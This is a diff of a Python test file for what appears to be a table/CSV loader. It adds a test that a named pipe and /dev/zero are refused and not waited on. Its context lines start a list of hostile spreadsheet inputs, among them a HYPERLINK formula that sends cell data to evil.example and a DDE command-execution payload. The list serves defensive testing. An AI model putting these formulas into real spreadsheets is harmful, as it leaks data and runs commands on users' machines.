@@ -311,6 +311,13 @@ def test_a_table_that_is_wrong_is_refused_at_its_line(tmp_path: Path) -> None:
     assert "The file is in UTF-16" in refused(tmp_path, table)[0]
 
 
+def test_what_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
+    """A pipe that nobody writes into gives nothing for ever, and a device no end."""
+    os.mkfifo(tmp_path / "pipe.csv")
+    said = refused(tmp_path, tmp_path / "pipe.csv", Path("/dev/zero"))
+    assert [line.partition(":")[0] for line in said] == ["The file cannot be read"] * 2
+
+
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+1+cmd|' /C calc'!A0",
